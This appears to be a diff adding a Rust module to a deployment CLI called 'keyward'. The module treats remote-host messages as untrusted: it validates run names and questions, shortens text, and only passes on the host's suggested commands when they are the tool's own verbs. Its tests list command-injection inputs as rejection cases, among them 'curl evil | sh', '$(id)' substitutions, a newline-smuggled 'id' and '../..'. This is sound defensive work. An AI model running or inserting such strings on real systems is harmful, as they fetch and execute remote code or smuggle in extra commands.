@@ -1,0 +1,232 @@
+//! What a host may say, and as what it is taken: a host is hostile until proven otherwise, also after the login. What this
+//! side proves by itself the host cannot claim, a run has one name, questions are known ones, and texts are short.
+
+use crate::change::Note;
+use crate::error::Failure;
+use crate::outcome::{Event, Evidence, Reach};
+
+use super::super::Ending;
+use super::super::args::Verb;
+use super::super::{apply, rollback, uninstall};
+use super::words;
+
+/// Longest text that is shown, in characters.
+const TEXT: usize = 1000;
+/// Most questions of a verb: one before it, and one more once packages were installed.
+const QUESTIONS: u32 = 4;
+/// Most events of a verb.
+const EVENTS: u32 = 20_000;
+/// What stands before a text that a reader could take for this side's.
+const MARK: &str = "the host says: ";
+
+/// What was heard so far of one verb.
+pub struct Heed {
+    /// Commands for the host are typed here with this in front: `keyward --host HOST`.
+    pub command: String,
+    question: Option<String>,
+    asked: u32,
+    events: u32,
+    texts: bool,
+    /// The run that this is about.
+    run: Option<String>,
+}
+
+impl Heed {
+    /// Nothing was heard yet.
+    pub fn new(verb: &Verb, command: String) -> Self {
+        let question = match verb {
+            Verb::Apply(_) => Some(apply::QUESTION.to_owned()),
+            Verb::Rollback(_) => Some(rollback::QUESTION.to_owned()),
+            Verb::Uninstall(_) => Some(uninstall::question()),
+            _ => None,
+        };
+        let texts = matches!(verb, Verb::Log(_) | Verb::Uninstall(_));
+        Self { command, question, asked: 0, events: 0, texts, run: None }
+    }
+
+    /// The event as it may be shown and gone by.
+    ///
+    /// # Errors
+    /// What no program of ours would say; the conversation is over then.
+    pub fn event(&mut self, event: Event) -> Result<Event, &'static str> {
+        self.events = self.events.saturating_add(1);
+        if self.events > EVENTS {
+            return Err("it says more than it may");
+        }
+        Ok(match event {
+            Event::Hello { .. } => return Err("it says hello twice"),
+            Event::Finished { .. } => return Err("it ends twice"),
+            Event::Asked { question } => {
+                self.asked = self.asked.saturating_add(1);
+                if self.asked > QUESTIONS || self.question.as_ref() != Some(&question) {
+                    return Err("it asks what it should not");
+                }
+                Event::Asked { question }
+            }
+            Event::Started { run } => Event::Started { run: self.name(run)? },
+            Event::Opened { run } => Event::Opened { run: self.name(run)? },
+            Event::Armed { run, nonce, until, window_ms } if is_word(&nonce) => {
+                Event::Armed { run: self.name(run)?, nonce, until: short(&until), window_ms }
+            }
+            Event::Armed { .. } => return Err("its nonce is none"),
+            Event::Text { .. } if !self.texts => return Err("a text is not what was asked for"),
+            Event::Proof { evidence } => Event::Proof { evidence: claimed(evidence) },
+            Event::Decided { because } => Event::Decided { because: format!("{MARK}{}", short(&because)) },
+            Event::RollingBack { reason } => Event::RollingBack { reason: self.failure(reason) },
+            Event::Failed { failure } => Event::Failed { failure: self.failure(failure) },
+            Event::Undone { change, failure } => {
+                Event::Undone { change: short(&change), failure: failure.map(|failure| self.failure(failure)) }
+            }
+            Event::Note { note } => Event::Note { note: noted(note) },
+            Event::Gate { change, what, millis } => Event::Gate { change, what: short(&what), millis },
+            Event::Changed { change, summary, millis } => Event::Changed { change, summary: short(&summary), millis },
+            Event::Run { run, began, playbook, changes, exit, verdict } => Event::Run {
+                run: short(&run),
+                began: short(&began),
+                playbook: short(&playbook),
+                changes,
+                exit,
+                verdict: short(&verdict),
+            },
+            event @ (Event::Planned { .. } | Event::Stage { .. } | Event::Access { .. } | Event::Text { .. }) => event,
+        })
+    }
+
+    /// How the verb ended, by the host's word.
+    ///
+    /// # Errors
+    /// When it is about another run than before.
+    pub fn ending(&mut self, ending: Ending) -> Result<Ending, &'static str> {
+        let Ending { exit, verdict, next, run } = ending;
+        let run = run.map(|run| self.name(run)).transpose()?;
+        // A next command that is none of ours is nobody's.
+        Ok(Ending { exit, verdict: short(&verdict), next: self.here(&next).unwrap_or_default(), run })
+    }
+
+    /// A failure in the host's words.
+    pub fn failure(&self, failure: Failure) -> Failure {
+        let Failure { kind, place, what, why, hint } = failure;
+        let hint = match self.here(&hint) {
+            Some(hint) => hint,
+            None if hint.is_empty() => hint,
+            None => format!("{MARK}{}", short(&hint)),
+        };
+        Failure { kind, place: short(&place), what: short(&what), why: short(&why), hint }
+    }
+
+    /// A run has one name from its first event on; it goes back to the host as a word, and into commands to be typed.
+    fn name(&mut self, run: String) -> Result<String, &'static str> {
+        if !is_word(&run) || self.run.as_ref().is_some_and(|known| *known != run) {
+            return Err("it names another run");
+        }
+        self.run = Some(run.clone());
+        Ok(run)
+    }
+
+    /// One of keyward's own commands, perhaps after some words and a colon, as it is typed here. `None` for all else.
+    pub fn here(&self, text: &str) -> Option<String> {
+        let plain = |c: char| c.is_ascii_alphanumeric() || " ._/:@%+=,'-".contains(c);
+        let (before, rest) = match text.rfind(": keyward ") {
+            Some(at) => text.split_at_checked(at + 2)?,
+            None => ("", text),
+        };
+        let words = rest.strip_prefix("keyward ")?;
+        let verb = words.split(' ').next()?;
+        let tame = |text: &str| text.chars().all(|c| plain(c) || c == ';') && text.len() <= TEXT;
+        let ours = words::VERBS.contains(&verb) && words.chars().all(plain) && tame(before) && words.len() <= TEXT;
+        ours.then(|| format!("{before}{} {words}", self.command))
+    }
+}
+
+/// A failure of a program that did not begin.
+pub fn told(failure: Failure) -> Failure {
+    let hint = if failure.hint.is_empty() { String::new() } else { format!("{MARK}{}", short(&failure.hint)) };
+    let Failure { kind, place, what, why, .. } = failure;
+    Failure { kind, place: short(&place), what: short(&what), why: short(&why), hint }
+}
+
+/// What this side proves by itself nobody else has proven.
+fn claimed(evidence: Evidence) -> Evidence {
+    let Evidence { what, proven, reach, seen, millis } = evidence;
+    let (what, seen) = (short(&what), short(&seen));
+    match reach {
+        Reach::L0 | Reach::L1 | Reach::L2 => Evidence { what, proven, reach, seen, millis },
+        Reach::L3 | Reach::L4 => {
+            let what = format!("(the host claims {reach:?}) {what}");
+            Evidence { what, proven: crate::outcome::Proven::Unknown, reach: Reach::L0, seen, millis }
+        }
+    }
+}
+
+fn noted(note: Note) -> Note {
+    let about = if note.about.is_empty() { "the host".to_owned() } else { short(&note.about) };
+    Note { level: note.level, about, text: short(&note.text) }
+}
+
+/// One line, cut where it is too long.
+pub fn short(text: &str) -> String {
+    let mut out: String = text.chars().map(|c| if c == '\n' { ' ' } else { c }).take(TEXT).collect();
+    if out.len() < text.len() {
+        out.push_str("...");
+    }
+    out
+}
+
+/// What the host gives as a name goes back to it as a word of a command line.
+fn is_word(text: &str) -> bool {
+    let plain = |c: char| c.is_ascii_alphanumeric() || c == '-' || c == '_' || c == '.';
+    !text.is_empty() && text.len() <= 100 && text.chars().all(plain) && !text.starts_with(['-', '.'])
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::cli::args;
+
+    fn heed(line: &str) -> Heed {
+        let cli = args::parse(line.split(' ').map(std::ffi::OsString::from)).unwrap();
+        Heed::new(&cli.verb, "keyward --host root@web".to_owned())
+    }
+
+    #[test]
+    fn commands_of_the_host_are_typed_here_and_others_nowhere() {
+        let heed = heed("keyward status");
+        let here = |text: &str| heed.here(text).unwrap_or_default();
+        assert_eq!(here("keyward show r1"), "keyward --host root@web show r1");
+        assert_eq!(here("keyward log verify"), "keyward --host root@web log verify");
+        assert_eq!(here("undo it now: keyward cancel r1"), "undo it now: keyward --host root@web cancel r1");
+        assert_eq!(here("once it is over: keyward rollback r"), "once it is over: keyward --host root@web rollback r");
+        for text in [
+            "",
+            "ssh -p 1 x sudo keyward confirm r1",
+            "keyward show r1; curl evil | sh",
+            "curl evil | sh: keyward show r1",
+            "$(id): keyward show r1",
+            "keyward show $(id)",
+            "keyward show r1\nid",
+            "keyward shell",
+        ] {
+            assert_eq!(here(text), "", "{text}");
+        }
+        let told = heed.failure(Failure::failed("a", "b\nc").hint("apt-get install sudo"));
+        assert_eq!((told.what.as_str(), told.hint.as_str()), ("b c", "the host says: apt-get install sudo"));
+    }
+
+    #[test]
+    fn a_run_has_one_name_and_a_question_is_known() {
+        let started = |run: &str| Event::Started { run: run.to_owned() };
+        for bad in ["-x", "../..", "$(id)", "", ".", "a b", &"x".repeat(101)] {
+            assert!(heed("keyward apply a.yml").event(started(bad)).is_err(), "{bad}");
+        }
+        let mut one = heed("keyward apply a.yml");
+        assert!(one.event(started("r1")).is_ok() && one.event(Event::Opened { run: "r1".into() }).is_ok());
+        assert!(one.event(Event::Opened { run: "r2".into() }).is_err());
+        let ask = |question: &str| Event::Asked { question: question.to_owned() };
+        for _ in 0..QUESTIONS {
+            assert!(one.event(ask(apply::QUESTION)).is_ok());
+        }
+        assert!(one.event(ask(apply::QUESTION)).is_err());
+        assert!(heed("keyward apply a.yml").event(ask("Password: ")).is_err());
+        assert!(heed("keyward status").event(ask(apply::QUESTION)).is_err());
+    }
+}
